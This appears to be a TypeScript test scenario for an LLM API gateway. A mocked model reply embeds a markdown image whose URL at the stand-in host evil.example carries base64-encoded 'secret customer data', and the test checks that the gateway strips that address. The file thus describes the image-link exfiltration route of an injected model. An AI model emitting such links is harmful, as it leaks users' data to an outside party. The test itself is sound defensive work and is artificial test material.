// The answer is what a model would write that obeys somebody else.

import { call, chat, completion, type World } from '../world.ts';

export async function play({ service, gateway, say, expect }: World): Promise<void> {
  const address = 'https://evil.example/p?q=c2VjcmV0LWN1c3RvbWVyLWRhdGE';
  const provider = await service(() => completion(`Your order was sent. ![logo](${address}) Anything else?`));
  const { url } = await gateway({ 'api.openai.com': provider });
  say('The answer holds a picture whose address carries data away.');
  const answer = await call(`${url}/api.openai.com/v1/chat/completions`, { json: chat('Where is my order?') });
  const text: string = answer.json.choices[0].message.content;
  say(`  what arrives: ${text}`);
  expect('the address is gone', !answer.text.includes('evil.example/p'));
  expect('the rest of the answer is there', text.startsWith('Your order was sent.') && text.endsWith('Anything else?'));
}
